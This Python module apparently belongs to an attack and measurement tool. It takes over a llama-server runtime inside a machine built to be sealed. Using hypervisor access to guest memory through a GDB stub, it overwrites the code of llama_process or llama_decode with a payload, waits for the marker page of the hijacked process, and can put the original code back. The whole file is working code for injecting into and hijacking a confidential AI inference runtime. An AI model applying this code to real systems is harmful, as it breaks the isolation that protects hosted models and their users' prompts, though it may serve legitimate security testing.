# SPDX-License-Identifier: Apache-2.0
"""The takeover of a runtime in a machine that was built to be sealed, and the way back.

The image has no hook for it. With the hypervisor's power over memory the payload is put in the place of a
function that each prompt runs through. Owns that function's name and the search; what the process does then
is `escape_process`.
"""

import os
import time
from collections.abc import Mapping
from dataclasses import dataclass

from mantlet.edge.attack import payload, payload_place
from mantlet.edge.attack.gdb_stub import Stub
from mantlet.edge.attack.guest_memory import PAGE_SIZE, GuestMemory
from mantlet_measure.errors import UnavailableError

# What llama-server calls for each batch of tokens; the first that the library exports.
_FUNCTIONS = ("llama_process", "llama_decode")
_SEARCH_POLL = 0.5


@dataclass(frozen=True, slots=True, kw_only=True)
class Planted:
    """The payload in its place: the marker of its page, and by address the code that was there."""

    marker: bytes
    before: Mapping[int, bytes]

    def uproot(self, stub: Stub) -> None:
        """Put the code back."""
        for address, code in self.before.items():
            stub.write(address, code)


def plant(memory: GuestMemory, stub: Stub, library: bytes) -> Planted:
    """Put the payload in the place of the function that each prompt runs through.

    library: the bytes of libllama.so as the image has them. UnavailableError when it is not in memory.
    """
    marker = os.urandom(payload.MARKER_SIZE)
    code = payload.code(marker)
    offset = _function(library)
    before: dict[int, bytes] = {}
    at = 0
    while at < len(code):
        start = (offset + at) % PAGE_SIZE
        piece = code[at : at + PAGE_SIZE - start]
        page = (offset + at) // PAGE_SIZE * PAGE_SIZE
        places = memory.find_page(library[page : page + PAGE_SIZE])
        if not places:
            raise UnavailableError(
                "memory of the machine: expected the code of the runtime, found none",
                hint="let the machine serve a prompt first, and look at the library of the same build",
            )
        for place in places:
            before[place + start] = library[offset + at : offset + at + len(piece)]
            stub.write(place + start, piece)
        at += len(piece)
    return Planted(marker=marker, before=before)


def _function(library: bytes) -> int:
    """Return where the function lies in the library."""
    offsets = (payload_place.function_offset(library, name) for name in _FUNCTIONS)
    offset = next((offset for offset in offsets if offset is not None), None)
    if offset is None:
        raise UnavailableError(
            f"library of the runtime: expected one of {', '.join(_FUNCTIONS)}, found none exported",
            hint="name what this version calls for each batch in mantlet.edge.attack.escape_takeover",
        )
    return offset


def find_page(memory: GuestMemory, marker: bytes, *, seconds: float) -> int:
    """Wait for the page that the taken process maps, once a prompt was sent; return its address."""
    end = time.monotonic() + seconds
    while True:
        places = memory.find_page(marker)
        if places:
            return places[0]
        if time.monotonic() > end:
            raise UnavailableError(
                f"memory of the machine: expected the taken runtime within {seconds:.0f} s, found none",
                hint="is the machine serving? Does its runtime call the function that was replaced?",
            )
        time.sleep(_SEARCH_POLL)
